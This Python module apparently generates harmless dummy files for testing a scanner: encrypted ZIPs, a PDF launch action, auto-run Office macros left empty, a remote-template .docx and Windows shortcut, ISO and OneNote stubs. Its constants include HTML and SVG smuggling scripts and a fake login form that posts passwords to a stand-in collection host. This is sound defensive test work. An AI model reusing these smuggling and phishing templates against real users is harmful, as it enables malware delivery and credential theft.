# SPDX-License-Identifier: GPL-3.0-or-later
"""Harmless files with the right first bytes and the right structure: what a scanner recognises, and nothing that does
anything. The macros, scripts and shortcuts hold words only."""
import io
import os
import struct
import zipfile
import zlib

NOTHING = b"This file is a dummy and does nothing. "


def zip_of(files, password=None):
    """A ZIP of {name: bytes}, locked with ZipCrypto when there is a password; names in CP932 unless ASCII."""
    out, directory = io.BytesIO(), b""
    for name, data in files.items():
        raw_name = name.encode("cp932")
        crc = zlib.crc32(data)
        packed = zlib.compressobj(9, zlib.DEFLATED, -15)
        body = packed.compress(data) + packed.flush()
        flags = 0
        if password is not None:
            flags = 1
            body = zip_crypto(password.encode(), struct.pack("<I", crc)[3:4], body)
        common = struct.pack("<HHHHHIIIHH", 20, flags, 8, 0x4000, 0x5B70, crc, len(body), len(data), len(raw_name), 0)
        offset = out.tell()
        out.write(b"PK\3\4" + common + raw_name + body)
        directory += b"PK\1\2" + struct.pack("<H", 20) + common + struct.pack("<HHHII", 0, 0, 0, 32, offset) + raw_name
    start = out.tell()
    out.write(directory + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, len(files), len(files), len(directory), start, 0))
    return out.getvalue()


def zip_crypto(password, check, data):
    """Traditional PKWARE encryption (APPNOTE.TXT 6.1) with a fixed header instead of a random one."""
    table = [0] * 256
    for i in range(256):
        value = i
        for _ in range(8):
            value = (value >> 1) ^ (0xEDB88320 if value & 1 else 0)
        table[i] = value
    keys = [0x12345678, 0x23456789, 0x34567890]

    def update(byte):
        keys[0] = (keys[0] >> 8) ^ table[(keys[0] ^ byte) & 0xFF]
        keys[1] = ((keys[1] + (keys[0] & 0xFF)) * 134775813 + 1) & 0xFFFFFFFF
        keys[2] = (keys[2] >> 8) ^ table[(keys[2] ^ (keys[1] >> 24)) & 0xFF]

    for byte in password:
        update(byte)
    out = bytearray()
    for byte in b"kaede-dummy" + check + data:
        mask = (keys[2] & 0xFFFF) | 2
        out.append(byte ^ (((mask * (mask ^ 1)) >> 8) & 0xFF))
        update(byte)
    return bytes(out)


def pdf_launch():
    return pdf(b"/OpenAction << /S /Launch /F (dummy.exe) >> ")


def pdf(opens=b""):
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + opens + b">>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>", b"<< /Title (dummy) >>"]
    out, offsets = b"%PDF-1.4\n", []
    for number, data in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, data)
    table = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return out + (b"xref\n0 5\n0000000000 65535 f \n" + table + b"trailer\n<< /Size 5 /Root 1 0 R /Info 4 0 R >>\nstartxref\n%d\n%%%%EOF\n"
                  % len(out))


def png():
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\0\0", 9)) + chunk(b"IEND", b""))


def ovba(source):
    """MS-OVBA 2.4.1: a compressed container of literals only."""
    out = b"\x01"
    for start in range(0, len(source), 3500):
        piece, tokens = source[start:start + 3500], b""
        for i in range(0, len(piece), 8):
            tokens += b"\0" + piece[i:i + 8]
        out += struct.pack("<H", 0xB000 | (len(tokens) - 1)) + tokens
    return out


def ole2(tree):
    """A compound file of nested {name: bytes or dict} (MS-CFB); streams below 4096 bytes lie in the mini stream."""
    entries, chains, sectors, small, small_chain = [], [], [], [], []

    def add_sectors(data):
        first = len(sectors)
        sectors.extend(data[i:i + 512].ljust(512, b"\0") for i in range(0, len(data), 512))
        chains.append((first, len(sectors) - first))
        return first

    def add_stream(data):
        if len(data) >= 4096:
            return add_sectors(data), len(data)
        first = len(small)
        small.extend(data[i:i + 64].ljust(64, b"\0") for i in range(0, len(data), 64))
        small_chain.extend(range(first + 1, len(small)))
        small_chain.append(0xFFFFFFFE)
        return first, len(data)

    def add(name, kind, content):
        index = len(entries)
        entries.append({"name": name, "kind": kind, "child": -1, "right": -1, "start": 0, "size": 0})
        if kind == 2:
            entries[index]["start"], entries[index]["size"] = add_stream(content)
            return index
        before = -1
        for child in sorted(content, key=lambda key: (len(key), key.upper())):
            number = add(child, 1 if isinstance(content[child], dict) else 2, content[child])
            if before < 0:
                entries[index]["child"] = number
            else:
                entries[before]["right"] = number
            before = number
        return index

    add("Root Entry", 5, tree)
    entries[0]["start"], entries[0]["size"], small_at, small_count = 0xFFFFFFFE, 0, 0xFFFFFFFE, 0
    if small:
        entries[0]["start"], entries[0]["size"] = add_sectors(b"".join(small)), len(small) * 64
        small_count = -(-len(small_chain) // 128)
        small_chain += [0xFFFFFFFF] * (small_count * 128 - len(small_chain))
        small_at = add_sectors(struct.pack(f"<{len(small_chain)}I", *small_chain))
    raw = b""
    for entry in entries:
        name = entry["name"].encode("utf-16-le") + b"\0\0"
        raw += (name.ljust(64, b"\0") + struct.pack("<HBBiii", len(name), entry["kind"], 1, -1, entry["right"], entry["child"])
                + b"\0" * 16 + struct.pack("<IQQIQ", 0, 0, 0, entry["start"], entry["size"]))
    free = struct.pack("<HBBiii", 0, 0, 0, -1, -1, -1)
    while len(raw) % 512:
        raw += b"\0" * 64 + free + b"\0" * 48
    directory = add_sectors(raw)
    count = 1
    while count * 128 < len(sectors) + count:
        count += 1
    fat = [0xFFFFFFFF] * (count * 128)
    for first, length in chains:
        for i in range(first, first + length):
            fat[i] = i + 1 if i + 1 < first + length else 0xFFFFFFFE
    fat_at = len(sectors)
    for i in range(count):
        fat[fat_at + i] = 0xFFFFFFFD
    header = (b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<IIIIIIIII", 0, count, directory, 0, 4096, small_at, small_count, 0xFFFFFFFE, 0))
    header += b"".join(struct.pack("<I", fat_at + i if i < count else 0xFFFFFFFF) for i in range(109))
    return header + b"".join(sectors) + struct.pack(f"<{len(fat)}I", *fat)


def vba_storage(auto="Workbook_Open"):
    source = (f'Attribute VB_Name = "ThisWorkbook"\r\nSub {auto}()\r\n  \' a dummy that does nothing\r\nEnd Sub\r\n').encode()
    name = b"ThisWorkbook"

    def record(number, data):
        return struct.pack("<HI", number, len(data)) + data

    wide = name.decode().encode("utf-16-le")
    listing = (record(0x01, struct.pack("<I", 1)) + record(0x02, struct.pack("<I", 1041)) + record(0x14, struct.pack("<I", 1041))
               + record(0x03, struct.pack("<H", 932)) + record(0x04, b"VBAProject") + record(0x0F, struct.pack("<H", 1))
               + record(0x13, b"\xff\xff") + record(0x19, name) + record(0x47, wide) + record(0x1A, name) + record(0x32, wide)
               + record(0x1C, b"") + record(0x48, b"") + record(0x31, struct.pack("<I", 0)) + record(0x1E, b"\0\0\0\0")
               + record(0x2C, b"\xff\xff") + record(0x22, b"") + record(0x2B, b"") + record(0x10, b""))
    return {"VBA": {"dir": ovba(listing), "ThisWorkbook": ovba(source), "_VBA_PROJECT": b"\xCC\x61\xFF\xFF\0\0\0"},
            "PROJECT": b'ID="{00000000-0000-0000-0000-000000000000}"\r\nDocument=ThisWorkbook/&H00000000\r\n'}


def ooxml(kind="xlsx", macro=False):
    main = "xl/workbook.xml" if kind.startswith("x") else "word/document.xml"
    base = main.split("/")[0]
    content = ("application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else
               "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml")
    if base == "word":
        content = ("application/vnd.ms-word.document.macroEnabled.main+xml" if macro else
                   "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")
    files = {
        "[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
                               '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                               f'<Override PartName="/{main}" ContentType="{content}"/></Types>',
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                       '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
                       f'Target="{main}"/></Relationships>',
        main: '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    }
    if base == "word":
        files[main] = ('<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
                       "<w:body/></w:document>")
    out = {name: text.encode() for name, text in files.items()}
    if macro:
        out[base + "/vbaProject.bin"] = ole2(vba_storage("Workbook_Open" if base == "xl" else "AutoOpen"))
    return zip_of(out)


def docx_template(address):
    """A document that wants its template from elsewhere."""
    plain = zipfile.ZipFile(io.BytesIO(ooxml("docx")))
    files = {name: plain.read(name) for name in plain.namelist()}
    relations = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    files["word/settings.xml"] = (f'<?xml version="1.0"?><w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" '
                                  f'xmlns:r="{relations}"><w:attachedTemplate r:id="rId1"/></w:settings>').encode()
    files["word/_rels/settings.xml.rels"] = (f'{package}<Relationship Id="rId1" Type="{relations}/attachedTemplate" '
                                             f'Target="{address}" TargetMode="External"/></Relationships>').encode()
    files["word/_rels/document.xml.rels"] = (f'{package}<Relationship Id="rId1" Type="{relations}/settings" '
                                             f'Target="settings.xml"/></Relationships>').encode()
    return zip_of(files)


def xls(macro=False):
    # BIFF8 with a beginning and an end of the workbook's globals.
    book = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 5, 0x0DBB, 0x07CC, 0, 6) + struct.pack("<HH", 0x000A, 0)
    return ole2({"Workbook": book, **({"_VBA_PROJECT_CUR": vba_storage()} if macro else {})})


def doc_padded(size):
    """A .doc with macros in front of zeros: small in a ZIP, large on the disk."""
    return ole2({"WordDocument": b"\xEC\xA5\xC1\0", "Macros": vba_storage("AutoOpen")}) + b"\0" * size


def exe():
    return (b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0, 0x0022)
            + NOTHING * 4)


def lnk():
    clsid = bytes.fromhex("0114020000000000c000000000000046")
    return b"L\0\0\0" + clsid + struct.pack("<II", 0x0000000B, 0x20) + b"\0" * 48 + b"\0" * 4


def iso():
    volume = b"\x01CD001\x01\0" + b"LINUX".ljust(32) + b"DUMMY".ljust(32)
    return b"\0" * 32768 + volume.ljust(2048, b"\0") + b"\xFFCD001\x01".ljust(2048, b"\0")


def one(embedded):
    guid = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3")
    data = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<QIQ", len(embedded), 0, 0) + embedded
    return guid + bytes.fromhex("3fdd9a101b91f549a5d01791edc8aed8") + b"\0" * 992 + data + b"\0" * 16


JS = b'// a dummy that does nothing\r\nvar shell = "WScript.Shell";\r\nvar nothing = new ActiveXObject("Scripting.Dictionary");\r\n'
VBS = b"' a dummy that does nothing\r\nDim nothing\r\nSet nothing = CreateObject(\"Scripting.Dictionary\")\r\n"
HTA = b"<html><head><hta:application id=dummy></head><script language=\"VBScript\">' nothing\r\n</script></html>"
SMUGGLING = (b"<!DOCTYPE html><html><body><p>Loading your document...</p><script>\n"
             b"var data = atob('UEsDBAoAAAAAAGR1bW15'); var bytes = new Uint8Array(data.length);\n"
             b"for (var i = 0; i < data.length; i++) bytes[i] = data.charCodeAt(i);\n"
             b"var blob = new Blob([bytes], {type: 'octet/stream'}); var a = document.createElement('a');\n"
             b"a.href = window.URL.createObjectURL(blob); a.download = 'Invoice.zip'; a.click();\n</script></body></html>\n")
LOGIN_FORM = (b"<!DOCTYPE html><html><body><h1>Sign in to continue</h1><form method=post action='https://collect.badhost.test/p'>"
              b"<input name=user><input type=password name=pw><button>Sign in</button></form></body></html>\n")
ICS = (b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1@calendar.example\r\nDTSTAMP:20261116T010000Z\r\n"
       b"DTSTART:20261118T010000Z\r\nDTEND:20261118T020000Z\r\nSUMMARY:Review\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
SVG_SMUGGLING = (b'<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[var d=atob("ZHVtbXk=");'
                 b'var b=new Blob([d]);var u=URL.createObjectURL(b);window.location.href=u;]]></script></svg>')
